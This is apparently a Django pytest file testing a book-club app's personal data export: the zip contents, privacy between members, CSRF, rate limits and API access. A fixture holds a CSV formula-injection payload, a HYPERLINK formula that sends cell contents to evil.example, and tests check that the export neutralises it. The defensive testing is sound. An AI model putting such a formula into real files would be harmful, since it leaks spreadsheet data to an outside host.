"""Download my data: a zip of CSV files and one JSON file holding the member's rows, and no one else's."""

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime, timedelta

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from bets.models import LedgerEntry, Reason
from bets.services import account_open, bet_place
from books.models import Shelf
from books.shelves.services import shelf_entry_update, shelf_put
from booky.site.data_export import JSON_NAME, README_NAME, SECTIONS, member_export_zip
from clubs.models import Role
from meetings.discussion.models import Post
from meetings.discussion.services import post_create
from meetings.models import Attendance, ProgressEntry, Rsvp
from meetings.services import attendance_progress, attendance_rsvp
from tests.factories import PASSWORD, BookFactory, ClubFactory, MeetingFactory, UserFactory, add_member
from tests.social.notify_helpers import befriend

pytestmark = pytest.mark.django_db

PAGE = "/settings/export/"
API = "/api/v1/me/export/"
CSV_NAMES = [f"{section.name}.csv" for section in SECTIONS]
INJECTED_BODY = '=HYPERLINK("http://evil.example/?leak="&A1, "Click me")'


def _take_part(user, meeting, *, page: int, body: str) -> None:
    """RSVP going, record a page, post in the discussion."""
    attendance_rsvp(user=user, meeting=meeting, rsvp=Rsvp.GOING)
    attendance_progress(user=user, meeting=meeting, current_page=page)
    post_create(author=user, meeting=meeting, body=body)


class World:
    """Ada, whose data is exported, and Bruno, in the same club and meeting, with data of his own."""

    def __init__(self):
        self.ada = UserFactory(username="ada", display_name="Ada L.", timezone="Europe/Lisbon")
        self.bruno = UserFactory(username="bruno")
        self.carla = UserFactory(username="carla")
        self.club = ClubFactory(name="Lisbon Readers", slug="lisbon-readers", owner=self.bruno)
        add_member(self.club, self.ada, role=Role.MODERATOR)
        self.book = BookFactory(title="Anna Karenina", authors=["Leo Tolstoy"], isbn_13="9781234567897")
        self.meeting = MeetingFactory(club=self.club, book=self.book, title="Part one")
        for user in (self.ada, self.bruno):
            account_open(user=user)
        _take_part(self.ada, self.meeting, page=120, body=INJECTED_BODY)
        _take_part(self.bruno, self.meeting, page=80, body="Bruno's own thoughts")
        self.bet = bet_place(bettor=self.ada, meeting=self.meeting, horse=self.bruno, amount=15)
        bet_place(bettor=self.bruno, meeting=self.meeting, horse=self.ada, amount=7)
        entry = shelf_put(user=self.ada, book=self.book, shelf=Shelf.READ)
        shelf_entry_update(
            user=self.ada, entry=entry, shelf=Shelf.READ, started_on=None, finished_on=None, rating=5
        )
        shelf_put(user=self.bruno, book=BookFactory(title="Bruno's book"), shelf=Shelf.READING)
        befriend(self.ada, self.carla)
        befriend(self.bruno, UserFactory(username="dora"))
        ClubFactory(name="Bruno's other club", owner=self.bruno)


@pytest.fixture
def world():
    return World()


def open_zip(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def csv_rows(files: dict[str, bytes], name: str) -> list[dict[str, str]]:
    raw = files[name]
    assert raw.startswith(b"\xef\xbb\xbf"), f"{name} has no UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_page_explains_the_download_and_get_does_not_download(client, world):
    client.force_login(world.ada)
    response = client.get(PAGE)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    html = response.content.decode()
    assert "Download my data</button>" in html
    assert 'method="post"' in html
    assert "csrfmiddlewaretoken" in html
    for name in CSV_NAMES:
        assert name in html
    assert "Content-Disposition" not in response


def test_the_settings_pages_link_to_the_download(client, world):
    client.force_login(world.ada)
    html = client.get(reverse("social:settings")).content.decode()
    assert f'href="{reverse("social:data_export")}"' in html
    assert reverse("social:data_export") == PAGE


def test_anonymous_visitors_are_sent_to_log_in(client):
    for response in (client.get(PAGE), client.post(PAGE)):
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("account_login"))


def test_post_without_the_csrf_token_is_refused(world):
    client = Client(enforce_csrf_checks=True)
    client.force_login(world.ada)
    response = client.post(PAGE)
    assert response.status_code == 403
    assert "Content-Disposition" not in response


def test_other_methods_are_405(client, world):
    client.force_login(world.ada)
    assert client.put(PAGE).status_code == 405
    assert client.delete(PAGE).status_code == 405


def test_post_downloads_a_zip_named_after_the_member_and_the_day(client, world):
    client.force_login(world.ada)
    response = client.post(PAGE, {"anything": "ignored"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Cache-Control"] == "no-store"
    today = datetime.now(UTC).date()
    # Dated in Ada's zone (Lisbon): within a day of UTC's date.
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="booky-data-ada-')
    assert disposition.endswith('.zip"')
    day = disposition.removeprefix('attachment; filename="booky-data-ada-').removesuffix('.zip"')
    assert abs((date.fromisoformat(day) - today).days) <= 1
    files = open_zip(response.content)
    assert sorted(files) == sorted([*CSV_NAMES, JSON_NAME, README_NAME])


def test_every_file_holds_the_members_rows_and_not_anyone_elses(world):
    files = open_zip(member_export_zip(world.ada))

    assert csv_rows(files, "profile.csv") == [
        {
            "username": "ada",
            "display_name": "Ada L.",
            "email": "ada@example.com",
            "bio": "",
            "date_joined": world.ada.date_joined.isoformat(),
            "time_zone": "Europe/Lisbon",
            "profile_visibility": "public",
        }
    ]
    [shelf] = csv_rows(files, "shelves.csv")
    assert shelf | {"added_at": ""} == {
        "title": "Anna Karenina",
        "authors": "Leo Tolstoy",
        "isbn_13": "9781234567897",
        "isbn_10": "",
        "shelf": "read",
        "started_on": "",
        "finished_on": "",
        "rating": "5",
        "added_at": "",
    }
    progress = csv_rows(files, "reading_progress.csv")
    assert [(row["meeting"], row["club"], row["book"], row["page"]) for row in progress] == [
        ("Part one", "Lisbon Readers", "Anna Karenina", "120")
    ]
    [attended] = csv_rows(files, "meetings_attended.csv")
    assert attended["club"] == "Lisbon Readers"
    assert attended["meeting"] == "Part one"
    assert attended["starts_at"] == world.meeting.starts_at.isoformat()
    assert (attended["rsvp"], attended["current_page"], attended["finish_status"]) == ("going", "120", "")
    [bet] = csv_rows(files, "bets.csv")
    assert (bet["bet_id"], bet["horse"], bet["amount"], bet["status"], bet["payout"]) == (
        str(world.bet.pk),
        "bruno",
        "15",
        "open",
        "",
    )
    ledger = csv_rows(files, "points_ledger.csv")
    assert [(row["amount"], row["balance_after"], row["reason"], row["bet_id"]) for row in ledger] == [
        ("100", "100", Reason.SIGNUP, ""),
        # A plain negative number stays a number: no formula guard on numeric columns.
        ("-15", "85", Reason.STAKE, str(world.bet.pk)),
    ]
    [post] = csv_rows(files, "discussion_posts.csv")
    assert (post["meeting"], post["club"], post["status"]) == ("Part one", "Lisbon Readers", "published")
    assert csv_rows(files, "friends.csv")[0]["friend"] == "carla"
    assert len(csv_rows(files, "friends.csv")) == 1
    assert [(row["club"], row["slug"], row["role"]) for row in csv_rows(files, "clubs.csv")] == [
        ("Lisbon Readers", "lisbon-readers", "moderator")
    ]
    everything = b"".join(files.values())
    for foreign in (b"bruno's own thoughts", b"Bruno's book", b"dora", b"Bruno's other club"):
        assert foreign.lower() not in everything.lower()


def test_a_post_that_looks_like_a_formula_is_quoted_in_the_csv_and_kept_as_written_in_the_json(world):
    files = open_zip(member_export_zip(world.ada))
    [post] = csv_rows(files, "discussion_posts.csv")
    assert post["body"] == "'" + INJECTED_BODY
    assert json.loads(files[JSON_NAME])["discussion_posts"][0]["body"] == INJECTED_BODY


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_guarded_in_text_cells(world, start):
    world.ada.display_name = f"{start}SUM(1+1)"
    world.ada.save(update_fields=["display_name"])
    files = open_zip(member_export_zip(world.ada))
    assert csv_rows(files, "profile.csv")[0]["display_name"] == f"'{start}SUM(1+1)"


def test_the_json_file_holds_the_same_rows_as_the_csv_files(world):
    files = open_zip(member_export_zip(world.ada))
    document = json.loads(files[JSON_NAME].decode("utf-8"))
    assert sorted(document) == sorted(section.name for section in SECTIONS)
    for section in SECTIONS:
        rows = csv_rows(files, f"{section.name}.csv")
        assert len(rows) == len(document[section.name]), section.name
        assert all(list(row) == list(section.columns) for row in document[section.name])
    assert document["shelves"][0]["authors"] == ["Leo Tolstoy"]
    assert document["points_ledger"][1]["amount"] == -15
    assert document["bets"][0]["payout"] is None
    assert document["profile"][0]["date_joined"] == world.ada.date_joined.isoformat()
    assert document["meetings_attended"][0]["starts_at"] == world.meeting.starts_at.isoformat()
    assert document["clubs"][0]["joined_at"].endswith("+00:00")


def test_the_readme_names_every_file(world):
    readme = open_zip(member_export_zip(world.ada))[README_NAME].decode()
    for name in [*CSV_NAMES, JSON_NAME]:
        assert name in readme


def test_a_late_finish_is_marked_late(world):
    attendance = Attendance.objects.get(user=world.ada, meeting=world.meeting)
    Attendance.objects.filter(pk=attendance.pk).update(
        finished=True, finished_at=world.meeting.starts_at + timedelta(hours=1)
    )
    files = open_zip(member_export_zip(world.ada))
    assert csv_rows(files, "meetings_attended.csv")[0]["finish_status"] == "late"


def test_a_member_with_no_data_gets_every_file_with_its_header(db):
    files = open_zip(member_export_zip(UserFactory()))
    for section in SECTIONS:
        raw = files[f"{section.name}.csv"].decode("utf-8-sig")
        assert raw.splitlines()[0] == ",".join(section.columns)
    assert json.loads(files[JSON_NAME])["bets"] == []


def test_a_second_download_within_a_minute_answers_429_with_the_page(client, world):
    client.force_login(world.ada)
    assert client.post(PAGE).status_code == 200
    again = client.post(PAGE)
    assert again.status_code == 429
    assert again["Content-Type"].startswith("text/html")
    assert "less than a minute ago" in again.content.decode()
    assert "Download my data</button>" in again.content.decode()
    # The page itself still shows, and another member is not held up.
    assert client.get(PAGE).status_code == 200
    client.force_login(world.bruno)
    assert client.post(PAGE).status_code == 200


def test_the_api_answers_the_same_zip_to_a_session(world):
    client = Client()
    client.force_login(world.ada)
    response = client.get(API)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Disposition"].startswith('attachment; filename="booky-data-ada-')
    files = open_zip(response.content)
    assert sorted(files) == sorted([*CSV_NAMES, JSON_NAME, README_NAME])
    assert json.loads(files[JSON_NAME])["bets"][0]["horse"] == "bruno"


def test_the_api_answers_the_zip_to_a_bearer_token(world):
    app = Client(enforce_csrf_checks=True)
    login = app.post(
        "/_allauth/app/v1/auth/login",
        {"username": "ada", "password": PASSWORD},
        content_type="application/json",
    )
    assert login.status_code == 200, login.content
    token = login.json()["meta"]["access_token"]
    response = Client().get(API, headers={"Authorization": f"Bearer {token}", "Accept": "application/zip"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert csv_rows(open_zip(response.content), "profile.csv")[0]["username"] == "ada"


def test_the_api_refuses_anonymous_callers_with_json(api_client):
    for accept in ("application/json", "application/zip", "*/*"):
        response = api_client.get(API, headers={"Accept": accept})
        assert response.status_code in (401, 403)
        assert response["Content-Type"] == "application/json"
        assert response.json()["code"] == "not_authenticated"


def test_the_api_shares_the_rate_limit_and_answers_429_json(world):
    client = Client()
    client.force_login(world.ada)
    assert client.get(API).status_code == 200
    for again in (client.get(API, headers={"Accept": "application/zip"}), client.post(PAGE)):
        assert again.status_code == 429
    refused = client.get(API, headers={"Accept": "application/zip"})
    assert refused["Content-Type"] == "application/json"
    assert refused.json() == {
        "detail": "You downloaded your data less than a minute ago. Wait a minute, then try again.",
        "code": "rate_limited",
    }


def test_the_api_with_an_unknown_format_is_not_a_server_error(world, api_client):
    api_client.force_authenticate(world.ada)
    assert api_client.get(API + "?format=xlsx").status_code == 404


def _grow(world, count: int) -> None:
    """`count` more rows of every kind for Ada (each in its own meeting)."""
    for number in range(count):
        club = ClubFactory(owner=world.bruno)
        add_member(club, world.ada)
        meeting = MeetingFactory(club=club)
        attendance_rsvp(user=world.ada, meeting=meeting, rsvp=Rsvp.GOING)
        attendance_progress(user=world.ada, meeting=meeting, current_page=10)
        # Straight to the table: post_create allows 10 posts a minute.
        Post.objects.create(meeting=meeting, author=world.ada, body=f"Post {number}")
        attendance_rsvp(user=world.bruno, meeting=meeting, rsvp=Rsvp.GOING)
        bet_place(bettor=world.ada, meeting=meeting, horse=world.bruno, amount=1)
        shelf_put(user=world.ada, book=BookFactory(), shelf=Shelf.WANT_TO_READ)
        befriend(world.ada, UserFactory())


def test_the_export_costs_the_same_few_queries_for_1_row_or_20(world, django_assert_max_num_queries):
    with CaptureQueriesContext(connection) as few:
        member_export_zip(world.ada)
    _grow(world, 19)
    assert ProgressEntry.objects.filter(attendance__user=world.ada).count() == 20
    assert LedgerEntry.objects.filter(account__user=world.ada).count() == 21
    with django_assert_max_num_queries(len(SECTIONS)):
        files = open_zip(member_export_zip(world.ada))
    with CaptureQueriesContext(connection) as many:
        member_export_zip(world.ada)
    assert len(many.captured_queries) == len(few.captured_queries)
    for name in ("reading_progress.csv", "bets.csv", "discussion_posts.csv", "friends.csv", "clubs.csv"):
        assert len(csv_rows(files, name)) == 20, name


def test_the_download_page_costs_a_bounded_number_of_queries(client, world, django_assert_max_num_queries):
    _grow(world, 5)
    client.force_login(world.ada)
    # The session and the user, then one query per file.
    with django_assert_max_num_queries(2 + len(SECTIONS)):
        assert client.post(PAGE).status_code == 200


def test_head_on_the_api_answers_like_get_and_does_not_count_as_a_download(world):
    client = Client()
    client.force_login(world.ada)
    head = client.head(API)
    assert (head.status_code, head["Content-Type"]) == (200, "application/zip")
    assert client.get(API).status_code == 200
    assert client.head(API).status_code == client.get(API).status_code == 429
